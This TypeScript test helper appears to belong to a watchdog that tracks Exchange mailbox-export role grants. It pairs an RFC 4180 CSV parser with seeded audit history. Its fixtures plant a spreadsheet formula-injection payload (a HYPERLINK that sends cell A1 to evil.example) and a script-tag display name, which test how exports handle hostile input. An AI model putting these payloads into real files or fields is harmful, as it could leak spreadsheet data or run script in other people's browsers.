/** Shared by the evidence tests: an independent RFC 4180 reader and a morning of stored history. */
import type { Grant, Holder } from '../../../lib/domain.js';
import { MIE_ROLE } from '../../../lib/domain.js';
import type { JournalEntryInput } from '../../../lib/ports/index.js';
import type { OpenedStore } from '../../../lib/tableStorage/openStore.js';
import { syntheticEntry } from '../../support/store.js';
import { holder, unapprovedFinding, VIA_PST_MIGRATION_OPERATORS } from '../../../testkit/fixtures.js';

/**
 * Reads CSV per RFC 4180 (quoted fields with "" escapes, CRLF records) without the code under test,
 * so a round trip proves the writer, not agreement with itself.
 */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (c === '"' || c === '\r' || c === '\n') {
      throw new Error(`Not RFC 4180: bare ${JSON.stringify(c)} at offset ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (field !== '' || record.length) throw new Error('Not RFC 4180: the last record has no CRLF');
  return records;
}

/** Header row and records as objects keyed by column name. */
export function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  if (!header) return [];
  return rows.map((r) => Object.fromEntries(header.map((name, i) => [name, r[i] ?? ''])));
}

/** A direct holder of a named assignment (its guid derived from the name), shown by mail nickname. */
function namedHolder(principal: string, assignmentName: string, over: Partial<Holder> = {}): Holder {
  const guid = `guid-${assignmentName.replace(/\W+/g, '-').toLowerCase()}`;
  return holder(principal, guid, { displayName: principal.split('@')[0], assignmentName, ...over });
}

/** How the seeded approval was verified: a token for the API. */
export const LIDIA_TOKEN = {
  kind: 'api',
  oid: '5e7a1b2c-0000-4000-8000-00000000a11d',
  tid: 'c0ffee00-0000-4000-8000-000000000001',
  issuer: 'https://login.microsoftonline.com/c0ffee00-0000-4000-8000-000000000001/v2.0',
  appId: '0a0b0c0d-0000-4000-8000-0000000000ab',
} as const;

export const T = (hhmm: string): string => `2026-03-01T${hhmm}:00.000Z`;
export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

/**
 * A morning of history: two forgotten holders found, a grant requested (with a formula-injection
 * justification), approved and activated, an unapproved holder revoked, a scope change, then expiry.
 */
export async function seedHistory(
  store: OpenedStore,
): Promise<{ alex: Holder; lynne: Holder; adele: Holder; grant: Grant }> {
  const alex = namedHolder('alexw@contoso.onmicrosoft.com', 'Mailbox Import Export-AlexW');
  const lynne = namedHolder(
    'lynner@contoso.onmicrosoft.com',
    'Mailbox Import Export-PST Migration Operators',
    VIA_PST_MIGRATION_OPERATORS,
  );
  const adele = namedHolder('adelev@contoso.onmicrosoft.com', 'MIE-grant-g-1', {
    displayName: '<script>alert("Adele")</script>',
  });
  const grant: Grant = {
    id: 'g-1',
    principal: adele.principal,
    role: MIE_ROLE,
    status: 'revoked',
    method: 'direct',
    requestedBy: 'meganb@contoso.onmicrosoft.com',
    requestedAt: T('09:00'),
    justification: INJECTION,
    ticket: 'CHG-1042, "urgent"',
    durationMs: 4 * 3_600_000,
    approvedBy: 'lidiah@contoso.onmicrosoft.com',
    approvedAt: T('09:05'),
    activatedAt: T('09:10'),
    expiresAt: T('13:00'),
    assignmentGuid: adele.assignmentGuid,
    assignmentName: adele.assignmentName,
    endedAt: T('13:00'),
    endedBy: 'watchdog',
    endReason: 'expired',
  };
  const finding = unapprovedFinding(alex, { id: 'unapproved|alexw', summary: 'AlexW holds MIE without a grant' });
  const events: JournalEntryInput[] = [
    { at: T('08:00'), type: 'holder.added', actor: 'watchdog', subject: alex.key, data: { holder: alex } },
    { at: T('08:00'), type: 'holder.added', actor: 'watchdog', subject: lynne.key, data: { holder: lynne } },
    {
      at: T('09:00'),
      type: 'grant.requested',
      actor: grant.requestedBy,
      subject: 'g-1',
      reason: INJECTION,
      data: { grant: { ...grant, status: 'pending' } },
    },
    {
      at: T('09:05'),
      type: 'grant.approved',
      actor: 'lidiah@contoso.onmicrosoft.com',
      subject: 'g-1',
      data: { grant: { ...grant, status: 'approved' }, channel: LIDIA_TOKEN },
    },
    {
      at: T('09:10'),
      type: 'grant.activated',
      actor: 'watchdog',
      subject: 'g-1',
      data: { grant: { ...grant, status: 'active' } },
    },
    { at: T('09:15'), type: 'holder.added', actor: 'watchdog', subject: adele.key, data: { holder: adele } },
    { at: T('10:00'), type: 'finding.opened', actor: 'watchdog', subject: finding.id, data: { finding } },
    {
      at: T('11:00'),
      type: 'holder.changed',
      actor: 'watchdog',
      subject: lynne.key,
      data: { holder: { ...lynne, scope: 'Sales OU' }, previous: lynne },
    },
    // The holder only, without the reason and outcome the watchdog's own removals carry.
    syntheticEntry({
      at: T('12:00'),
      type: 'assignment.removed',
      actor: 'pattif@contoso.onmicrosoft.com',
      subject: alex.assignmentGuid,
      reason: 'no grant, removed by the security team',
      data: { holder: alex },
    }),
    { at: T('12:15'), type: 'holder.removed', actor: 'watchdog', subject: alex.key, data: { holder: alex } },
    {
      at: T('12:15'),
      type: 'finding.resolved',
      actor: 'watchdog',
      subject: finding.id,
      reason: 'holder gone',
      data: { finding },
    },
    syntheticEntry({ at: T('13:00'), type: 'grant.revoked', actor: 'watchdog', subject: 'g-1', data: { grant } }),
    { at: T('13:05'), type: 'holder.removed', actor: 'watchdog', subject: adele.key, data: { holder: adele } },
  ];
  for (const e of events) await store.journal.append(e);
  await store.grants.create(grant);
  return { alex, lynne, adele, grant };
}
